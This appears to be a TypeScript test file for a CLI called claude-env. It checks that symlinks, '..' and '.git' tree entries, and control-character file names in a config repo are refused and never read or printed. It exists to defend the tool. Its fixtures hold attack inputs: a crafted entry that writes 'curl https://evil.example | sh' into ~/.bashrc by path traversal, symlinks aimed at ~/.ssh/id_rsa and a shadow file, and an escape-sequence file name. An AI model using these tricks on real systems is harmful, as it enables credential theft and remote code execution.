/**
 * The config repo is read as data, never followed (issue 12): a symbolic
 * link in the working tree or in a git revision, and a git tree entry named
 * `..`, `.`, `.git`, with a control character or listed twice, is a finding
 * naming its path; nothing behind it is read, printed or copied, and apply
 * and render of a target that needs it refuse with that finding. Every case
 * checks that the bytes behind the link never show up in any output and
 * that the home outside claude-env's own files did not change.
 */
import { after, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { cpSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { initRepo } from '../../src/workspace/init.js';
import { cli, snapshot, tempDir } from '../helpers.js';
import { commitAll, craftCommit, git } from '../support/git-tree.js';

const tmp = tempDir();
after(() => tmp.cleanup());
let n = 0;

const seedRepo = join(tmp.dir, 'seed');
await initRepo(seedRepo, { PATH: process.env['PATH'] });
const target = ['--env', 'development', '--team', 'frontend-team', '--user', 'bob', '--project', 'web-application'];
const KEY = '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA-PRIVATE-KEY-BYTES-0451\n-----END OPENSSH PRIVATE KEY-----\n';
const SHADOW = 'root:$6$SHADOWHASH9000$abc:19000:0:99999:7:::\n';
const TOKEN = 'ghp_0123456789abcdefghijklmnopqrstuvwxyzAB';

/** A copy of the seed repo, a home with a private key in ~/.ssh, and a file outside both. */
function sandbox(): { root: string; repo: string; home: string; outside: string } {
  const root = join(tmp.dir, `box${n++}`);
  const repo = join(root, 'repo');
  const home = join(root, 'home');
  const outside = join(root, 'outside');
  cpSync(seedRepo, repo, { recursive: true });
  mkdirSync(join(home, '.ssh'), { recursive: true });
  mkdirSync(outside);
  writeFileSync(join(home, '.ssh', 'id_rsa'), KEY, { mode: 0o600 });
  writeFileSync(join(home, '.bashrc'), 'export PS1=mine\n');
  writeFileSync(join(outside, 'shadow'), SHADOW);
  return { root, repo, home, outside };
}

const env = (home: string): NodeJS.ProcessEnv => ({ HOME: home, PATH: process.env['PATH'], DOCS_MCP_TOKEN: 'test-token' });
const run = (args: string[], box: { repo: string; home: string }) =>
  cli([...args, '--repo', box.repo, ...(args[0] === 'validate' ? [] : ['--home', box.home])], { cwd: box.repo, env: env(box.home) });
/** The home as the user owns it: everything but claude-env's own state folder. */
const homeFiles = (home: string): Map<string, string> => new Map([...snapshot(home)].filter(([p]) => !p.startsWith('.claude-env/')));

/** No output of any of these runs holds any of these secrets. */
function neverShown(runs: ReadonlyArray<{ stdout: string; stderr: string }>, ...secrets: string[]): void {
  for (const r of runs) for (const s of secrets) for (const out of [r.stdout, r.stderr]) assert.ok(!out.includes(s), `"${s.slice(0, 24)}…" was printed:\n${out.slice(0, 2000)}`);
}

/** validate in every format: each names the path with its rule. */
async function validateNames(box: { repo: string; home: string }, path: string, rule: string, extra: string[] = [], formats = ['text', 'json', 'sarif']): Promise<Array<{ stdout: string; stderr: string }>> {
  const runs = [];
  for (const format of formats) {
    const v = await run(['validate', '--format', format, ...extra], box);
    assert.equal(v.code, 1, `${format}: ${v.stdout}${v.stderr}`);
    assert.ok(v.stdout.includes(rule) && v.stdout.includes(path), `${format} names ${path} (${rule}):\n${v.stdout.slice(0, 3000)}`);
    runs.push(v);
  }
  return runs;
}

describe('the repo is read as data: working tree links', () => {
  it('never copies a files/ link to ~/.ssh/id_rsa into ~/.claude: apply refuses naming it, validate reports it', async () => {
    const box = sandbox();
    mkdirSync(join(box.repo, 'teams/frontend-team/files'));
    symlinkSync(join(box.home, '.ssh', 'id_rsa'), join(box.repo, 'teams/frontend-team/files/id_rsa'));
    const before = homeFiles(box.home);
    const apply = await run(['apply', ...target], box);
    assert.equal(apply.code, 1, apply.stderr);
    assert.match(apply.stderr, /^claude-env: teams\/frontend-team\/files\/id_rsa:1:1  repo-symlink  is a symbolic link: claude-env never follows a link in the config repo/);
    assert.deepEqual(homeFiles(box.home), before);
    const render = await run(['render', ...target, '--outputs'], box);
    assert.equal(render.code, 1);
    const runs = await validateNames(box, 'teams/frontend-team/files/id_rsa', 'repo-symlink');
    neverShown([apply, render, ...runs], 'PRIVATE-KEY-BYTES');
    // another team's targets do not need the link: they apply
    const other = await run(['apply', '--env', 'development', '--team', 'backend-team', '--user', 'erin', '--project', 'api-service'], box);
    assert.equal(other.code, 0, other.stderr);
    assert.equal(existsSync(join(box.home, '.claude', 'id_rsa')), false);
  });

  it('never reads a layer document linked to a file outside the repo (/etc/shadow): validate prints none of its lines, apply refuses', async () => {
    const box = sandbox();
    rmSync(join(box.repo, 'teams/frontend-team/personas.yml'));
    symlinkSync(join(box.outside, 'shadow'), join(box.repo, 'teams/frontend-team/personas.yml'));
    const before = homeFiles(box.home);
    const apply = await run(['apply', ...target], box);
    assert.equal(apply.code, 1);
    assert.match(apply.stderr, /teams\/frontend-team\/personas\.yml:1:1  repo-symlink/);
    const explain = await run(['explain', 'personas', ...target], box);
    assert.equal(explain.code, 1);
    const runs = await validateNames(box, 'teams/frontend-team/personas.yml', 'repo-symlink');
    neverShown([apply, explain, ...runs], 'SHADOWHASH9000');
    assert.deepEqual(homeFiles(box.home), before);
  });

  it('never reads a document linked to .git/config (a credential there never reaches SARIF)', async () => {
    const box = sandbox();
    commitAll(box.repo);
    git(box.repo, ['remote', 'add', 'origin', `https://bob:${TOKEN}@github.example.com/org/config.git`]);
    rmSync(join(box.repo, 'teams/frontend-team/workflows.yml'));
    symlinkSync('../../.git/config', join(box.repo, 'teams/frontend-team/workflows.yml'));
    const apply = await run(['apply', ...target], box);
    assert.equal(apply.code, 1);
    const runs = await validateNames(box, 'teams/frontend-team/workflows.yml', 'repo-symlink');
    neverShown([apply, ...runs], TOKEN);
  });

  it('refuses a layer folder that is a link, and a linked claude-env.yml, naming them (not "unknown team")', async () => {
    const box = sandbox();
    const elsewhere = join(box.root, 'elsewhere');
    cpSync(join(box.repo, 'teams/frontend-team'), elsewhere, { recursive: true });
    rmSync(join(box.repo, 'teams/frontend-team'), { recursive: true });
    symlinkSync(elsewhere, join(box.repo, 'teams/frontend-team'));
    const team = await run(['apply', ...target], box);
    assert.equal(team.code, 1, team.stderr);
    assert.match(team.stderr, /^claude-env: teams\/frontend-team:1:1  repo-symlink/);
    const settings = join(box.root, 'claude-env.yml');
    cpSync(join(box.repo, 'claude-env.yml'), settings);
    rmSync(join(box.repo, 'claude-env.yml'));
    symlinkSync(settings, join(box.repo, 'claude-env.yml'));
    const repo = await run(['validate'], box);
    assert.equal(repo.code, 1);
    assert.match(repo.stderr, /^claude-env: claude-env\.yml:1:1  repo-symlink/);
    assert.equal(existsSync(join(box.home, '.claude')), false);
  });

  it('a members.yml that is a link is named as such, not "unknown user"', async () => {
    const box = sandbox();
    const list = join(box.outside, 'members.yml');
    cpSync(join(box.repo, 'teams/frontend-team/members.yml'), list);
    rmSync(join(box.repo, 'teams/frontend-team/members.yml'));
    symlinkSync(list, join(box.repo, 'teams/frontend-team/members.yml'));
    const r = await run(['apply', ...target], box);
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stderr, /^claude-env: teams\/frontend-team\/members\.yml:1:1  repo-symlink/);
  });

  it('escapes a file name with control characters in every finding (no raw escape sequence reaches a terminal)', async () => {
    const box = sandbox();
    writeFileSync(join(box.repo, 'base/files', 'evil\u001b[2J\u0007.md'), 'x\n');
    const v = await run(['validate'], box);
    assert.equal(v.code, 1);
    assert.match(v.stdout, /^base\/files\/evil\\u001b\[2J\\u0007\.md:1:1  error  repo-path  has a control character in its name/m);
    const apply = await run(['apply', ...target], box);
    assert.equal(apply.code, 1);
    for (const out of [v.stdout, v.stderr, apply.stdout, apply.stderr]) assert.doesNotMatch(out, /[\u0007\u001b]/);
  });
});

describe('the repo is read as data: crafted git revisions (apply --rev)', () => {
  /** The seed repo committed on main, with a crafted branch. */
  function crafted(entries: Parameters<typeof craftCommit>[2]): { box: ReturnType<typeof sandbox>; rev: string } {
    const box = sandbox();
    commitAll(box.repo);
    return { box, rev: craftCommit(box.repo, 'crafted', entries) };
  }

  it('a tree with a ".." entry under files/ does not replace ~/.bashrc', async () => {
    const { box, rev } = crafted([{ at: ['base', 'files', '..', '.bashrc'], content: 'curl https://evil.example | sh\n' }]);
    const before = homeFiles(box.home);
    const apply = await run(['apply', '--rev', rev, ...target], box);
    assert.equal(apply.code, 1, apply.stderr);
    assert.match(apply.stderr, /^claude-env: base\/files\/\.\.\/\.bashrc:1:1  repo-path  has an entry named "\.\.": claude-env never reads it nor anything under it/);
    assert.deepEqual(homeFiles(box.home), before);
    assert.equal(readFileSync(join(box.home, '.bashrc'), 'utf8'), 'export PS1=mine\n');
    const runs = await validateNames(box, 'base/files/../.bashrc', 'repo-path', ['--rev', rev], ['sarif']);
    neverShown([apply, ...runs], 'evil.example');
  });

  it('a symbolic link (mode 120000) under files/ is refused, its target never read', async () => {
    const { box, rev } = crafted([{ at: ['teams', 'frontend-team', 'files', 'id_rsa'], content: '../../../../home/.ssh/id_rsa', link: true }]);
    const apply = await run(['apply', '--rev', rev, ...target], box);
    assert.equal(apply.code, 1);
    assert.match(apply.stderr, /teams\/frontend-team\/files\/id_rsa:1:1  repo-symlink/);
    const runs = await validateNames(box, 'teams/frontend-team/files/id_rsa', 'repo-symlink', ['--rev', rev], ['sarif']);
    neverShown([apply, ...runs], 'PRIVATE-KEY-BYTES');
    assert.equal(existsSync(join(box.home, '.claude')), false);
  });

  it('entries named ".", ".git", with a control character, or holding a "/" that lists a path twice: each a finding, none read', async () => {
    const { box, rev } = crafted([
      { at: ['base', 'files', '.', 'dot.md'], content: 'DOT-BYTES\n' },
      { at: ['base', 'files', '.git', 'config'], content: 'GIT-BYTES\n' },
      { at: ['base', 'files', 'bell\u0007.md'], content: 'BELL-BYTES\n' },
      { at: ['base', 'files', 'hooks/format-on-edit.sh'], content: 'TWICE-BYTES\n' },
    ]);
    const v = await run(['validate', '--rev', rev, '--format', 'json'], box);
    assert.equal(v.code, 1);
    const found = (JSON.parse(v.stdout) as { findings: Array<{ rule: string; file: string; message: string }> }).findings.filter((f) => f.rule === 'repo-path');
    assert.deepEqual(found.map((f) => f.file).sort(), ['base/files/./dot.md', 'base/files/.git/config', 'base/files/bell\\u0007.md', 'base/files/hooks/format-on-edit.sh']);
    assert.match(found.find((f) => f.file.endsWith('format-on-edit.sh'))!.message, /listed twice in the git tree/);
    const apply = await run(['apply', '--rev', rev, ...target], box);
    assert.equal(apply.code, 1);
    neverShown([v, apply], 'DOT-BYTES', 'GIT-BYTES', 'BELL-BYTES', 'TWICE-BYTES');
    assert.equal(existsSync(join(box.home, '.claude')), false);
  });

  it('an unsafe entry no target reads is reported by validate and stops no apply', async () => {
    const { box, rev } = crafted([{ at: ['docs', '..', 'notes.md'], content: 'x\n' }]);
    const v = await run(['validate', '--rev', rev], box);
    assert.match(v.stdout, /docs\/\.\.\/notes\.md:1:1  error  repo-path/);
    const apply = await run(['apply', '--rev', rev, ...target], box);
    assert.equal(apply.code, 0, apply.stderr);
  });
});
